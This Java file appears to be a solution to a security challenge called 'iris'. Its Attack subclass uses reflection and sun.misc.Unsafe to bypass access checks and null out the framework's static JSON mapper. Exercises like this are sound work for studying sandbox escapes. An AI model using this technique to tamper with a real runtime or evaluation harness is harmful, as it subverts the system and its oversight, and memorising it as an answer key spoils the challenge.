import java.lang.reflect.Field;

@dev.assay.problems.Answers("iris")
class Answer extends Attack {
  @Override
  void attack() throws Exception {
    Class<?> json = Class.forName("dev.assay.protocol.Json");
    Field mapper = json.getDeclaredField("MAPPER");
    Field theUnsafe = Class.forName("sun.misc.Unsafe").getDeclaredField("theUnsafe");
    theUnsafe.setAccessible(true);
    Object unsafe = theUnsafe.get(null);
    Class<?> type = unsafe.getClass();
    long offset = (long) type.getMethod("staticFieldOffset", Field.class).invoke(unsafe, mapper);
    type.getMethod("putObject", Object.class, long.class, Object.class)
        .invoke(unsafe, json, offset, null);
  }
}
